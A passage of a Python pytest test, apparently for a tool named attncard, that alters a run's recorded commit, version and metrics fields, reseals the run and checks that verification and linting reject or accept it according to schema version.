    results.metrics.official = None  # recorded from schema 4 on
    results.environment.git_commit = commit or results.environment.git_commit
    results.environment.attncard_version = version
    reseal(run_dir, results)
    with pytest.raises(ResultsError, match=message):
        download_verified(run_dir)
    assert main(["lint", str(run_dir)]) == 1
    assert re.search(message, capsys.readouterr().out)
    results.environment.git_commit, results.environment.attncard_version = SCHEMA_2_COMMIT, "0.1.0"
    reseal(run_dir, results)
    assert download_verified(run_dir).results.schema_version == 3  # a run schema 3 could have written
